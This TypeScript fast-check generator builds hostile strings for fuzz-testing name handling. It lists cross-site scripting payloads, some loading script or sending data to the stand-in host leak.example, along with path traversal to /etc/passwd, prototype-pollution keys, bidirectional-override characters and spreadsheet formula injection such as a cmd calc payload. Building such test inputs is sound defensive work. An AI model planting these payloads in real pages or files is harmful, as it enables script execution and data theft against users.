import fc from 'fast-check'
import { anyCodePoint } from './anyCodePoint'

/** Markup that would run or load something where text is taken for HTML. */
export const markup = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><img src=https://leak.example/a.png>',
  "'><svg onload=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<math><mtext></p><style><img src onerror=alert(1)>',
  '</title><script src=//leak.example/x.js></script>',
  '<a href="javascript:alert(1)" ping="https://leak.example">x</a>',
  '<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>',
  '<style>@import "https://leak.example/c.css"</style>',
  '<base href=https://leak.example/>',
  '<form action=https://leak.example><button>go</button></form>',
  '<object data=https://leak.example></object><embed src=https://leak.example>',
  '<details open ontoggle=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '{name}{n}{status}',
  'javascript:alert(1)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;&#x3c;img src=x&#x3e;',
  '__proto__',
  'constructor',
  'toString',
  '../../../etc/passwd',
  '#/settings',
]

/** Controls that turn the direction of what follows, also where they are not closed. */
export const turning = [
  '\u202Eevil',
  '\u202Dforced\u202C',
  '\u202Bembedded',
  '\u2067isolated',
  '\u2066\u2067\u2068deep',
  'closes\u2069\u2069\u2069ours',
  'pops\u202C\u202C\u202C',
  'מלון הנמל',
  'مقهى المرفأ 12',
  'Café \u200Fשלום\u200E 34',
  '\u061C\u202E3 days',
]

const odd = [
  '\0',
  'a\0b',
  '\uFEFFmark',
  '\uD800',
  'half \uDC00 pair',
  '\u0000\u0001\u001b[31m',
  '\u2028line\u2029end',
  'a\u0301\u0327'.repeat(60),
  '👩‍👩‍👧‍👦'.repeat(17),
  'İ'.repeat(200),
  '\u200B\u200C\u200D',
  '=HYPERLINK("https://leak.example")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1',
  '-1',
  '\t=1',
]

/** Long ones, up to the 1 MB that no name may have. */
const long = [200, 201, 2000, 1_000_000].map(n => '<b>'.repeat(Math.ceil(n / 3)).slice(0, n))

const piece = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...markup) },
  { weight: 3, arbitrary: fc.constantFrom(...turning) },
  { weight: 3, arbitrary: fc.constantFrom(...odd) },
  { weight: 3, arbitrary: fc.string({ unit: anyCodePoint, maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
)

/** A text as no name should be. `most`: longer ones are cut. */
export const hostileText = (most = Number.POSITIVE_INFINITY) =>
  fc
    .oneof(
      { weight: 30, arbitrary: fc.array(piece, { minLength: 1, maxLength: 4 }).map(p => p.join('')) },
      { weight: 1, arbitrary: fc.constantFrom(...long) },
    )
    .map(t => t.slice(0, most))

/** A field of a CSV as it is. */
export const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`
